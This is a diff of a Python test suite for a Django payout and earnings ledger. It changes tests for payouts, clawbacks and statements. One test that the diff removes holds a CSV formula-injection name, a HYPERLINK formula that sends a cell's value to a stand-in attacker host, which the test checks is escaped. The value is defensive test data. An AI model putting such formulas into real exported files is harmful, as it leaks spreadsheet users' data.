@@ -1,30 +1,20 @@
 """Payouts: what is settled is paid once, what proved false is taken from what is not paid yet."""
 
-import csv
-import io
 import json
 import re
-import resource
-from collections.abc import Iterator
-from contextlib import contextmanager
 from datetime import UTC, datetime, timedelta
 from fractions import Fraction
-from pathlib import Path
-from xml.etree import ElementTree
 
 import pytest
-from django.core.management import CommandError, call_command
 from django.db import connection
 from django.db.models import Sum
 from django.test.utils import CaptureQueriesContext
 from django.utils import timezone
 
 from hazardmap.core.selling.statement import faults
-from hazardmap.platform.ids import new_id
 from hazardmap.rewards.models import Entry
-from hazardmap.rewards.payout_files import payout_csv
 from hazardmap.rewards.payout_models import Payout, PayoutRun, PayoutTarget
-from hazardmap.rewards.selectors import balances, earned, earnings, statement_document
+from hazardmap.rewards.selectors import balances, earned, earnings
 from hazardmap.rewards.services import (
     PayoutRefused,
     payout_end,
@@ -34,7 +24,8 @@ from hazardmap.rewards.services import (
     share_take_back,
 )
 from tests.at_once import at_once
-from tests.payout_scene import EUR, IBAN, MICRO, OURS, driver, later, prepared, share
+from tests.payout_scene import EUR, IBAN, MICRO, OURS, divided, driver, later, prepared, share
+from tests.statements import read
 
 pytestmark = pytest.mark.django_db
 
@@ -50,8 +41,7 @@ def ledger():
 
 def right(*users):
     """Whether each statement follows from its own inputs, without the site."""
-    documents = [json.loads(json.dumps(statement_document(user.witness))) for user in users]
-    return [fault for document in documents for fault in faults(document)] == []
+    return [fault for user in users for fault in faults(read(user.witness))] == []
 
 
 def test_settled_earnings_above_the_threshold_are_paid_in_whole_cents():
@@ -79,6 +69,17 @@ def test_settled_earnings_above_the_threshold_are_paid_in_whole_cents():
     assert (now.paid_micro, now.paying_micro) == (15 * MICRO, 0)
 
 
+def test_nothing_is_paid_before_it_was_judged_again_however_long_nobody_did():
+    user = driver()
+    line, weights = divided(9 * MICRO, user)
+    share(6 * MICRO, user)
+    assert earnings(user.witness, later(40))[0].payable_micro == 6 * MICRO
+    assert not share_correct(line_id=line, weights=weights, penalties={}, units=1)
+    assert earnings(user.witness, later(40))[0].payable_micro == 15 * MICRO
+    assert prepared(now=later(40))[0].amount_micro == 15 * MICRO
+    assert right(user)
+
+
 def test_a_payout_that_failed_is_the_contributors_again_and_in_the_next_run(monkeypatch):
     user = driver()
     settled = timezone.now() - timedelta(days=15)
@@ -101,7 +102,7 @@ def test_a_payout_that_failed_is_the_contributors_again_and_in_the_next_run(monk
 def test_what_proved_false_is_taken_from_what_is_not_paid_yet():
     liar, honest = driver(), driver()
     share(4 * MICRO, liar, honest)
-    line = share(6 * MICRO, honest)
+    line, _weights = divided(6 * MICRO, honest)
     spoilt = {liar.witness: Fraction(1, 6)}
     assert share_claw_back(line_id=line, penalties=spoilt, units=Fraction(1))
     assert not share_claw_back(line_id=line, penalties=spoilt, units=Fraction(1))
@@ -125,80 +126,9 @@ def test_what_proved_false_is_taken_from_what_is_not_paid_yet():
     assert not share_correct(**later_known)
     assert balanced()
     assert right(liar, honest)
-    document = statement_document(liar.witness)
+    document = read(liar.witness)
     document["lines"][1]["amount_micro"] += 1
     assert len(list(faults(document))) > 0
-
-
-@contextmanager
-def files_of_at_most(size: int) -> Iterator[None]:
-    """A longer one breaks off there, as on a disk that is full."""
-    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
-    resource.setrlimit(resource.RLIMIT_FSIZE, (size, hard))
-    try:
-        yield
-    finally:
-        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
-
-
-def test_a_run_becomes_csv_and_pain_001_and_is_paid_by_command(tmp_path, capsys):
-    first, second = driver("Ann Ålund"), driver("Bo", iban=OURS)
-    share(50 * MICRO, first, second)
-    share(10_010_000, second)
-    prepared()
-    run = PayoutRun.objects.get()
-    bank = {"from_name": "Hazardmap Oy", "from_iban": OURS}
-    call_command("payout", "csv", str(run.pk), out=tmp_path / "run.csv")
-    rows = list(csv.DictReader(io.StringIO((tmp_path / "run.csv").read_text())))
-    assert {(row["name"], row["iban"], row["amount"]) for row in rows} == {
-        ("Ann Ålund", IBAN, "25"),
-        ("Bo", OURS, "35.01"),
-    }
-    call_command("payout", "pain001", str(run.pk), out=tmp_path / "run.xml", **bank)
-    root = ElementTree.parse(tmp_path / "run.xml").getroot()  # noqa: S314 - we wrote it
-    space = {"p": "urn:iso:std:iso:20022:tech:xsd:pain.001.001.09"}
-    assert root.findtext(".//p:GrpHdr/p:MsgId", namespaces=space) == run.pk.hex
-    assert root.findtext(".//p:GrpHdr/p:CtrlSum", namespaces=space) == "60.01"
-    assert {one.text for one in root.iterfind(".//p:InstdAmt", space)} == {"25.00", "35.01"}
-    assert {one.text for one in root.iterfind(".//p:EndToEndId", space)} == {
-        payout.pk.hex for payout in run.payouts.all()
-    }
-    files = {path: path.read_bytes() for path in tmp_path.iterdir()}
-    for name in ("run.xml", "new.xml"):
-        full = pytest.raises(CommandError, match=r"--out: .* cannot be written")
-        with files_of_at_most(100), full:
-            call_command("payout", "pain001", str(run.pk), out=tmp_path / name, **bank)
-    assert {path: path.read_bytes() for path in tmp_path.iterdir()} == files
-    capsys.readouterr()
-    call_command("payout", "csv", str(run.pk), out=Path("-"))
-    printed = capsys.readouterr().out
-    assert printed.encode() == (tmp_path / "run.csv").read_bytes(), "a container has no other way"
-    call_command("payout", "paid", str(run.pk))
-    assert "2 payouts paid" in capsys.readouterr().out
-    with pytest.raises(CommandError, match="nobody to pay"):
-        call_command("payout", "prepare")
-    nothing = str(new_id())
-    for step, options in (("csv", {"out": tmp_path / "x.csv"}), ("paid", {}), ("failed", {})):
-        with pytest.raises(CommandError, match=f"There is no run or payout {nothing}."):
-            call_command("payout", step, nothing, **options)
-    with pytest.raises(CommandError, match="--at: then: must be a time like 2026-11-01T14:00"):
-        call_command("payout", "prepare", "--at", "then")
-
-
-def test_a_run_whose_number_nobody_has_read_is_found_again(capsys):
-    """The connection to the terminal was lost when it was written: the money is on its way."""
-    share(50 * MICRO, driver("Ann"), driver("Bo"))
-    first, second = prepared()
-    run = PayoutRun.objects.get()
-    with pytest.raises(CommandError, match="nobody to pay"):
-        call_command("payout", "prepare")
-    assert f"run {run.pk}: 2 payouts, 50.00 EUR since" in capsys.readouterr().out
-    payout_end(payout_id=first.pk, paid=True)
-    call_command("payout", "list")
-    assert f"run {run.pk}: 1 payouts, 25.00 EUR since" in capsys.readouterr().out
-    payout_end(payout_id=second.pk, paid=False)
-    call_command("payout", "list")
-    assert capsys.readouterr().out == ""
 
 
 def test_a_contributor_sees_where_each_amount_comes_from_and_says_where_it_goes(
@@ -226,8 +156,10 @@ def test_a_contributor_sees_where_each_amount_comes_from_and_says_where_it_goes(
     assert ("Handed over to be paid" in page, "Share of what was sold" in page) == (True, False)
     whole = re.compile('"inputs"(?! [-#]>)')
     assert not [one for one in queries if whole.search(one["sql"])], "the weights of all who share"
-    document = client.get("/account/earnings.json").json()
-    assert list(faults(document)) == []
+    monkeypatch.setattr("hazardmap.web.earnings.STATEMENTS_PER_HOUR", 1)
+    document = json.loads(client.get("/account/earnings.json").getvalue())
+    assert (list(faults(document)), len(document["lines"])) == ([], 2)
+    assert client.get("/account/earnings.json").status_code == 429
     assert "/account/earnings/" in client.get("/account/").content.decode()
 
 
@@ -295,13 +227,6 @@ def test_the_page_says_from_which_amount_on_money_is_paid_and_when_it_was(client
     assert "last on 2 March 2027" in page
 
 
-def test_a_name_is_no_formula_in_the_file_for_the_bank():
-    share(9 * MICRO, driver('=HYPERLINK("http://evil.example/?"&C3,"Ben")'))
-    prepared()
-    (row,) = csv.DictReader(io.StringIO(payout_csv(PayoutRun.objects.get().pk), newline=""))
-    assert row["name"].startswith("'=HYPERLINK(")
-
-
 @pytest.mark.django_db(transaction=True)
 def test_runs_at_once_pay_once():
     user = driver()
@@ -316,23 +241,3 @@ def test_runs_at_once_pay_once():
     assert sorted(at_once(*[run] * 4)) == [0, 0, 0, 1]
     assert earned(user.witness, EUR) == 0
     assert balanced()
-
-
-def test_a_run_that_a_restored_dump_does_not_know_is_prepared_as_it_was(monkeypatch, capsys):
-    """What was settled since is not in it: noted as paid, it is what the bank has paid."""
-    user, now = driver(), timezone.now()
-    for micro, days in ((9 * MICRO, 15), (30 * MICRO, 14)):
-        with monkeypatch.context() as back_then:
-            then = now - timedelta(days=days, minutes=1)
-            back_then.setattr(Entry._meta.get_field("at"), "_get_default", lambda at=then: at)
-            share(micro, user)
-    PayoutTarget.objects.update(set_at=now - timedelta(days=5))
-    yesterday = f"{now - timedelta(hours=23):%Y-%m-%dT%H:%M}"
-    call_command("payout", "prepare", "--at-least=5", f"--at={yesterday}")
-    payout = Payout.objects.get()
-    assert payout.amount_micro == 9 * MICRO
-    call_command("payout", "paid", str(payout.run_id))
-    call_command("payout", "prepare", "--at-least=5")
-    assert Payout.objects.get(state=Payout.State.PENDING).amount_micro == 30 * MICRO
-    with pytest.raises(CommandError, match="--at: must be in the past"):
-        call_command("payout", "prepare", f"--at={now + timedelta(days=1):%Y-%m-%d}")
